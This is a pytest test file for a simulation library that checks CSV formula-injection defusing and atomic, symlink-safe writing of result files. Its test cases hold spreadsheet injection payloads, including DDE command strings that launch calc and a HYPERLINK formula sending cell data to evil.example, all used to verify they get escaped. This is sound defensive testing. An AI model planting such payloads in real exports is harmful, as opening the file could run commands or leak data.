"""Result files: atomic all-or-nothing writing, and CSV cells a spreadsheet never runs.

CSV injection (OWASP): a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
return gets a leading ``'``; numbers (negative ones too) and Parquet files stay as they are.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import errno
import io
import os
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from simlib._atomic import OutputBatch, atomic_write, move_files_into, write_files
from simlib._outputs import check_output_file, check_output_folder
from simlib.cli.main import main
from simlib.errors import OutputError
from simlib.results.io import FORMULA_START, csv_bytes, csv_safe, defuse_formula, write_csv
from tests.conftest import BASE

pytestmark = [
    pytest.mark.hostile,
    pytest.mark.filterwarnings("ignore::simlib.model.ScenarioWarning"),
]


# ------------------------------------------------------------------------------ CSV injection


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-x", "'-x"),
        ("=", "'="),
        ("-1", "-1"),
        ("+3", "+3"),
        ("-1.5e3", "-1.5e3"),
        ("-.5", "-.5"),
        ("leaf key", "leaf key"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'=already", "'=already"),
        ("", ""),
        ("émoji 😀", "émoji 😀"),
    ],
)
def test_defuse_formula(cell, written):
    assert defuse_formula(cell) == written


def test_csv_safe_touches_text_cells_only():
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "ok", None, "-5"],
            "n": [-1, -2, 3, 4],
            "x": [-0.5, 1.0, float("nan"), 2.0],
            "flag": [True, False, True, False],
            "cat": pd.Categorical(["@a", "b", "b", "@a"]),
            "when": pd.to_datetime(["2025-01-01"] * 4),
        }
    )
    safe = csv_safe(frame)
    assert safe["name"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(safe["name"][2])
    assert safe["name"][3] == "-5" and safe["cat"].tolist() == ["'@a", "b", "b", "'@a"]
    for col in ("n", "x", "flag", "when"):
        pd.testing.assert_series_equal(safe[col], frame[col])
    assert frame["name"][0] == "=1+1"  # the caller's frame is not changed


def test_csv_safe_returns_the_frame_itself_when_nothing_needs_it():
    frame = pd.DataFrame({"strategy": ["leaf key", "none"], "locked": [-1.0, 2.0]})
    assert csv_safe(frame) is frame


def test_csv_safe_is_linear_on_long_daily_tables():
    """A 10× longer table takes about 10× as long (the distinct names are looked at once)."""
    import time

    def frame(n: int) -> pd.DataFrame:
        names = ["=a", "b", "-c", "d"] * (n // 4)
        return pd.DataFrame({"strategy": names, "v": range(len(names))})

    def cost(f: pd.DataFrame) -> float:
        best = float("inf")
        for _ in range(3):
            t = time.perf_counter()
            csv_safe(f)
            best = min(best, time.perf_counter() - t)
        return best

    small, large = frame(20_000), frame(200_000)
    assert cost(large) / cost(small) < 30


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "=-1",
]  # names refuse tabs


@pytest.mark.parametrize("payload", PAYLOADS)
def test_result_csv_files_hold_no_formula(tmp_path, capsys, payload):
    data = copy.deepcopy(BASE)
    data.update(
        end="2025-02-28",
        strategies=[{"name": payload, "pin": "leaf_spki"}, {"name": "none", "pin": "none"}],
    )
    data["cas"][0].update(name=payload + " CA", intermediates=[{"name": payload + " I"}])
    data["hosts"][0]["ca"] = payload + " CA"
    scenario = tmp_path / "s.yaml"
    scenario.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(scenario), "--out", str(out), "--quiet", "--format", "parquet"]) == 0
    for name in ("summary", "timeseries", "issuances", "releases", "durations"):
        cells = _cells(out / f"{name}.csv")
        bad = [c for c in cells if c.startswith(FORMULA_START) and defuse_formula(c) != c]
        assert not bad, (name, bad[:3])
        # Parquet is typed data for programs: it keeps the names exactly
        raw = pd.read_parquet(out / f"{name}.parquet")
        if "strategy" in raw:
            assert payload in set(raw["strategy"])
            assert "'" + payload in cells
    assert payload + " CA" in set(pd.read_parquet(out / "issuances.parquet")["ca"])


def test_calendar_csv_holds_no_formula(tmp_path, capsys):
    data = copy.deepcopy(BASE)
    data.update(
        start="2026-01-01",
        end="2026-04-30",
        validity_cap="cabf",
        strategies=[{"name": "=1+1", "pin": "leaf_spki"}, {"name": "-2+3", "pin": "none"}],
    )
    path = tmp_path / "s.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    assert main(["calendar", str(path), "--format", "csv", "--today", "2026-01-01"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and {r["strategy"] for r in rows} == {"'=1+1", "'-2+3"}
    assert all(not c.startswith(FORMULA_START) for r in rows for c in r.values() if c)


def test_write_csv_keeps_negative_numbers_numbers(tmp_path):
    write_csv(pd.DataFrame({"s": ["-x"], "n": [-3], "f": [-0.25]}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text().splitlines() == ['"s","n","f"', '"\'-x",-3,-0.25']


def _reference_csv(frame: pd.DataFrame) -> bytes:
    """What ``csv_bytes`` stands for: ``Table.from_pandas`` of the defused frame, timestamps as
    dates, Arrow's CSV writer (the code before the column-by-column conversion)."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    table = pa.Table.from_pandas(csv_safe(frame), preserve_index=False)
    for i, field in enumerate(table.schema):
        if pa.types.is_timestamp(field.type):
            table = table.set_column(i, field.name, table.column(i).cast(pa.date32()))
    sink = pa.BufferOutputStream()
    pacsv.write_csv(table, sink, pacsv.WriteOptions(quoting_style="needed"))
    return sink.getvalue().to_pybytes()


def _every_dtype(text: list[str | None]) -> pd.DataFrame:
    n = len(text)
    return pd.DataFrame(
        {
            "text": text,
            "obj": pd.Series(text, dtype=object),
            "cat": pd.Categorical([t if t is not None else "x" for t in text]),
            "n": np.arange(n, dtype=np.int64) - 2,
            "x": np.where(np.arange(n) % 3 == 0, np.nan, -np.arange(n) / 7),
            "flag": np.arange(n) % 2 == 0,
            "day": [dt.date(2026, 1, 1 + i % 28) if i % 4 else None for i in range(n)],
            "at": pd.to_datetime(["2026-03-01"] * n),
            "utc": pd.to_datetime(["2026-03-01 23:59:59"] * n, utc=True),
        }
    )


def test_csv_bytes_is_the_arrow_csv_of_the_defused_frame():
    frame = _every_dtype(["=1+1", "ok", None, "-5", "+JF1p", "@x", "plain"])
    written = csv_bytes(frame)
    assert written == _reference_csv(frame)
    lines = written.decode().splitlines()
    assert lines[1].startswith('"\'=1+1","\'=1+1","\'=1+1",-2,,true,,2026-03-01,2026-03-01')
    assert frame["text"][0] == "=1+1"  # the caller's frame is not changed


def test_csv_bytes_of_frames_without_a_formula_or_rows():
    for frame in (_every_dtype(["a", "b"]), _every_dtype([]), pd.DataFrame()):
        assert csv_bytes(frame) == _reference_csv(frame)


def test_csv_bytes_defuses_a_long_daily_table_by_its_distinct_names():
    names = pd.Series(["=a", "b", "-c", None] * 5_000, dtype="str")
    frame = pd.DataFrame({"strategy": names, "v": np.arange(len(names)) / 3})
    lines = csv_bytes(frame).decode().splitlines()
    assert csv_bytes(frame) == _reference_csv(frame)
    assert lines[1:5] == ['"\'=a",0', '"b",0.3333333333333333', '"\'-c",0.6666666666666666', ",1"]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(alphabet="=+-@\t\r'a1.eE ", max_size=5)), max_size=6))
def test_csv_bytes_defuses_exactly_as_csv_safe(text):
    frame = _every_dtype(text)
    assert csv_bytes(frame) == _reference_csv(frame)


# ------------------------------------------------------------------------- atomic writing


def _entries(folder: Path) -> set[str]:
    return set(os.listdir(folder))


def test_batch_is_all_or_nothing(tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "a.txt").write_text("old a\n")

    def boom(path: Path) -> None:
        path.write_text("half")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with pytest.raises(OSError, match="No space"), OutputBatch(folder) as batch:
        batch.add("a.txt", b"new a\n")
        batch.add("b.txt", boom)
    assert _entries(folder) == {"a.txt"} and (folder / "a.txt").read_text() == "old a\n"


def test_batch_removes_the_folders_it_created_on_failure(tmp_path):
    with pytest.raises(OSError), OutputBatch(tmp_path / "x" / "y") as batch:
        batch.add("a.txt", b"a")
        raise OSError(errno.EDQUOT, "quota")
    assert _entries(tmp_path) == set()


def test_batch_refuses_a_folder_that_is_a_link(tmp_path):
    (tmp_path / "real").mkdir()
    os.symlink(tmp_path / "real", tmp_path / "link")
    with pytest.raises(OutputError, match="symbolic link"):
        write_files(tmp_path / "link", {"a.txt": b"a"})
    assert _entries(tmp_path / "real") == set()


def test_a_link_in_the_folder_is_replaced_never_followed(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("keep\n")
    folder = tmp_path / "out"
    folder.mkdir()
    os.symlink(secret, folder / "a.txt")
    os.symlink(tmp_path / "new", folder / "b.txt")  # dangling: must not create tmp_path/new
    write_files(folder, {"a.txt": b"A", "b.txt": b"B"})
    assert secret.read_text() == "keep\n" and not (tmp_path / "new").exists()
    assert (
        stat.S_ISREG(os.lstat(folder / "a.txt").st_mode) and (folder / "b.txt").read_bytes() == b"B"
    )


@pytest.mark.parametrize("kind", ["folder", "fifo"])
def test_a_non_file_in_the_way_replaces_nothing(tmp_path, kind):
    (tmp_path / "a.txt").write_text("old\n")
    (tmp_path / "b.txt").mkdir() if kind == "folder" else os.mkfifo(tmp_path / "b.txt")
    with pytest.raises(OutputError, match="not a file"):
        write_files(tmp_path, {"a.txt": b"new", "b.txt": b"new"})
    assert (tmp_path / "a.txt").read_text() == "old\n" and _entries(tmp_path) == {"a.txt", "b.txt"}


def test_files_get_ordinary_permissions(tmp_path):
    old = os.umask(0o027)
    try:
        atomic_write(tmp_path / "a.txt", b"a")
        write_files(tmp_path, {"b.txt": lambda p: p.write_text("b")})
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "a.txt").st_mode) == 0o640
    assert stat.S_IMODE(os.stat(tmp_path / "b.txt").st_mode) == 0o640


def test_atomic_write_follows_links_among_the_parents(tmp_path):
    """A library caller's path is the caller's choice: only the file itself is never followed."""
    (tmp_path / "real").mkdir()
    os.symlink(tmp_path / "real", tmp_path / "link")
    atomic_write(tmp_path / "link" / "a.txt", b"a")
    assert (tmp_path / "real" / "a.txt").read_bytes() == b"a"


@pytest.mark.parametrize("name", ["", ".", "..", "a/b", "../x", "a\0b"])
def test_batch_names_are_plain_file_names(tmp_path, name):
    with pytest.raises(ValueError), OutputBatch(tmp_path) as batch:
        batch.add(name, b"x")
    assert _entries(tmp_path) == set()


def test_move_files_into_moves_top_level_files_only(tmp_path):
    staging, out = tmp_path / "staging", tmp_path / "out"
    (staging / "profile").mkdir(parents=True)
    (staging / "profile" / "Cookies").write_text("browser state")
    (staging / ".hidden").write_text("h")
    (staging / "report.html").write_text("<p>")
    os.symlink(tmp_path / "elsewhere", staging / "link.html")
    assert move_files_into(staging, out) == [out / "report.html"]
    assert _entries(out) == {"report.html"}


def test_move_files_into_checks_every_target_first(tmp_path):
    staging, out = tmp_path / "staging", tmp_path / "out"
    staging.mkdir()
    out.mkdir()
    for name in ("a.md", "b.md"):
        (staging / name).write_text("new")
    (out / "a.md").write_text("old")
    os.mkfifo(out / "b.md")
    with pytest.raises(OutputError, match=r"b\.md: is a FIFO"):
        move_files_into(staging, out)
    assert (out / "a.md").read_text() == "old" and _entries(staging) == {"a.md", "b.md"}


def test_checks_create_nothing(tmp_path):
    check_output_folder(tmp_path / "a" / "b")
    check_output_file(tmp_path / "c" / "d.yaml")
    assert _entries(tmp_path) == set()
